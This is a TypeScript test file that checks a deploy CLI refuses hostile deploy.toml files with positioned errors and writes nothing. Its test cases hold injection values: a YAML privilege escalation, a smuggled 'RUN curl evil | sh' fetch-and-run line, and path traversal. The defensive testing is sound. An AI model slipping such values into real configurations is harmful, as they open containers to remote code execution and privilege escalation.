/**
 * Hostile deploy.toml files: values crafted to break out of a YAML scalar,
 * a Dockerfile line or a shell, oversized and binary files. Each is refused
 * at its line:col (or as a file problem) and `deploy render` writes nothing.
 * Two cases run the CLI as a process (its exit code and output as a user
 * sees them); the others run its `main` in this process, the same code from
 * the argv on.
 */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { after, it } from "node:test";
import { runCliInProcess } from "../helpers/cli-in-process.js";
import { runCli } from "../helpers/run-cli.js";

const root = await mkdtemp(path.join(os.tmpdir(), "deploy-hostile-"));
after(() => rm(root, { recursive: true, force: true }));

/** Cases run as a real process. */
const SPAWNED = new Set(["a YAML break-out in the image", "a binary file"]);

const cases: [string, string | Buffer, RegExp][] = [
  ["a YAML break-out in the image", '[deploy]\nname = "m"\nimage = "a/b:1\\n  privileged: true"\n', /^deploy\.toml:3:1: error: deploy\.image: image must be a reference/m],
  ["a Dockerfile line in the module", '[deploy]\nname = "m"\nimage = "a/b:1"\nmodule = "src/app.ts\\nRUN curl evil | sh"\n', /^deploy\.toml:4:1: error: deploy\.module: module is a relative path/m],
  ["a YAML key in an env name", '[deploy]\nname = "m"\nimage = "a/b:1"\n[deploy.env."A: b"]\nsecret = "s"\nkey = "k"\n', /^deploy\.toml:4:13: error: deploy\.env\.A: b: Invalid key in record/m],
  ["a host with a newline", '[deploy]\nname = "m"\nimage = "a/b:1"\n[deploy.ingress]\nhost = "a.example.com\\nevil"\n', /^deploy\.toml:5:1: error: deploy\.ingress\.host: ingress\.host "a\.example\.com\\nevil" is not a Kubernetes object name/m],
  ["a secret name with a path", '[deploy]\nname = "m"\nimage = "a/b:1"\ntrace = { secret = "../../etc", key = "k" }\n', /error: deploy\.trace/],
  ["a name of 64 characters", `[deploy]\nname = "${"a".repeat(64)}"\nimage = "a/b:1"\n`, /^deploy\.toml:2:1: error: deploy\.name: must be at most 63 characters/m],
  ["a binary file", Buffer.from([0x5b, 0x64, 0x00, 0xff, 0xfe]), /^deploy\.toml:1:3: error: file looks binary/m],
  ["an oversized file", `[deploy]\nname = "m"\nimage = "a/b:1"\n#${"x".repeat(20 * 1024 * 1024)}\n`, /^deploy\.toml:\d+:\d+: error: /m],
];

for (const [name, text, expected] of cases)
  it(`${name}: refused, positioned, nothing written`, async () => {
    const dir = await mkdtemp(path.join(root, "case-"));
    await writeFile(path.join(dir, "deploy.toml"), text);
    const result = SPAWNED.has(name) ? await runCli(["deploy", "render"], dir) : await runCliInProcess(["deploy", "render"], { cwd: dir });
    assert.equal(result.code, 1, result.stderr);
    assert.match(result.stderr, expected);
    assert.match(result.stderr, /nothing was written/);
    assert.equal(existsSync(path.join(dir, "deploy")), false);
  });
